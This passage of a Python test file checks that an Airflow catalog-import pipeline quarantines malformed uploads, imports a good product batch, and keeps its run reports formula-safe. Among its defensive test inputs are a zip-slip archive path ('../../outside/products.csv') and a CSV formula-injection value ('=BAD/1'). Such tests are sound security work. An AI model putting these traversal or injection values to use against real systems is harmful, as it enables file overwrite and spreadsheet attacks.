    "products_20261201.csv": ("products_png_renamed.csv", "contains NUL bytes (first on line 3)"),
    "products_20261202.zip": ("products_zipslip.zip", "unsafe path in archive: '../../outside/products.csv'"),
    "products_20261203.csv.gz": ("products_truncated.csv.gz", "not a valid gzip file: Compressed file ended"),
    "products_20261204.zip": ("products_nested.zip", "archive inside an archive (products_inner.zip)"),
    "products_20261205.csv": ("products_mixed_encoding.csv", "mixed text encodings: line 2 is UTF-8 but line 4"),
    "products Ünïcödé ✓_20261207.csv": ("products Ünïcödé 2026 ✓.csv", "empty name"),
}
# Accepted with two rows rejected: its payloads reach Threekit as text, its errors the run report.
INJECTION_REMOTE = "products_20261206.csv"


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.slow
@pytest.mark.usefixtures("airflow_db")
def test_worst_files_are_quarantined_by_the_catalog_import_dag_while_a_good_batch_is_imported(tmp_path):
    from datetime import UTC, datetime

    from _dag_runs import ftp_files, load_dag, put_ftp_file, run_dag, running_stack
    from threekit_pipeline.samples.catalog import generate_catalog

    good = generate_catalog(
        tmp_path / "good", products=10, stamp="20261123", options_per_product=2, prices_per_product=1, locales=()
    )
    dag = load_dag("threekit_catalog_import", retry_delay_s=0.2)
    variable = {"batch_size": 50, "import_concurrency": 2, "sensor_timeout_seconds": 3}
    with running_stack(tmp_path / "stack", variable) as stack:
        uploads = {path.name: path.read_bytes() for path in good.values()}
        uploads |= {remote: (BAD / local).read_bytes() for remote, (local, _) in QUARANTINED.items()}
        uploads[INJECTION_REMOTE] = (BAD / "products_csv_injection.csv").read_bytes()
        for remote, data in uploads.items():
            put_ftp_file(stack, f"/inbound/catalog/{remote}", data)

        state, tasks = run_dag(dag, logical_date=datetime(2026, 12, 8, 10, tzinfo=UTC))

        assert state == "success", tasks
        root = Path(stack.ftp.root)
        assert ftp_files(stack, "/inbound/catalog") == {}
        # Each refused file sits in /rejected/catalog, byte for byte, with its reasons beside it.
        assert set(ftp_files(stack, "/rejected/catalog")) == {*QUARANTINED, *(f"{n}.errors.csv" for n in QUARANTINED)}
        for remote, (_local, reason) in QUARANTINED.items():
            assert (root / "rejected/catalog" / remote).read_bytes() == uploads[remote]
            errors = _csv_rows(root / "rejected/catalog" / f"{remote}.errors.csv")
            assert errors and all(e["file"] == remote and e["stage"] == "transform" for e in errors)
            assert any(reason in e["reason"] for e in errors), errors
        # The good batch and the injection file are imported and archived.
        archived = set(ftp_files(stack, "/archive/catalog"))
        assert archived == {f"2026/11/23/{p.name}" for p in good.values()} | {f"2026/12/06/{INJECTION_REMOTE}"}
        assert (root / "archive/catalog/2026/12/06" / INJECTION_REMOTE).read_bytes() == uploads[INJECTION_REMOTE]
        items = {(item.get("metadata") or {}).get("SKU"): item for item in stack.threekit.items()}
        with open(good["products"], encoding="utf-8", newline="") as handle:
            good_skus = {row["sku"] for row in csv.DictReader(handle)}
        injection_skus = {f"INJ-{i:03d}" for i in (1, 2, 3, 4, *range(7, 51))}
        assert set(items) == good_skus | injection_skus
        assert {sku: items[sku]["name"] for sku in INJECTION_NAMES} == INJECTION_NAMES

        # The run report: every CSV cell is formula-safe, the rejected rows are listed.
        reports = root / "reports/catalog_import"
        (report_csv,) = [p for p in reports.glob("*.csv") if not p.name.endswith(".errors.csv")]
        (errors_csv,) = reports.glob("*.errors.csv")
        statuses = {row["file"]: row["status"] for row in _csv_rows(report_csv)}
        imported = [path.name for path in good.values()]
        # Some of the injection file's rows were rejected: archived, but not as fully imported.
        assert statuses == {
            **dict.fromkeys(QUARANTINED, "rejected"),
            **dict.fromkeys(imported, "imported"),
            INJECTION_REMOTE: "partially imported",
        }
        listed = _csv_rows(errors_csv)
        assert {("'=BAD/1", "6")} <= {(r["value"], r["line"]) for r in listed if r["file"] == INJECTION_REMOTE}
        for path in (report_csv, errors_csv, *(root / "rejected/catalog").glob("*.errors.csv")):
            assert not [c for c in _cells(path) if c.startswith(FORMULA_START)], path
